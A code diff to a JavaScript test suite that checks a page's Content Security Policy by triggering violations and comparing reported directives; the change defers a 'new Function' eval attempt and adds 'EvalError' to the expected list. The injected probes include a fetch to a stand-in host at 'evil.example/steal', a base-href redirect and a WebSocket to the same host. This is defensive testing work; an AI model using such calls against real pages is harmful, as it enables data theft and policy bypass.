@@ -134,7 +134,8 @@ describe("the page under its own policy", function () {
       button.click();
       put("base", { href: "https://evil.example/" });
       fetch("https://evil.example/steal").catch(() => undefined);
-      attempt(() => new Function("globalThis.ran = 3")());
+      // Later: what the test's own tool evaluates may evaluate.
+      setTimeout(() => attempt(() => new Function("globalThis.ran = 3")()), 0);
       attempt(() => new WebSocket("wss://evil.example/"));
     })()`);
     const expected = [
@@ -145,6 +146,7 @@ describe("the page under its own policy", function () {
       "require-trusted-types-for",
       "style-src-elem",
       "trusted-types",
+      "EvalError",
     ];
     await until(
       async () => {
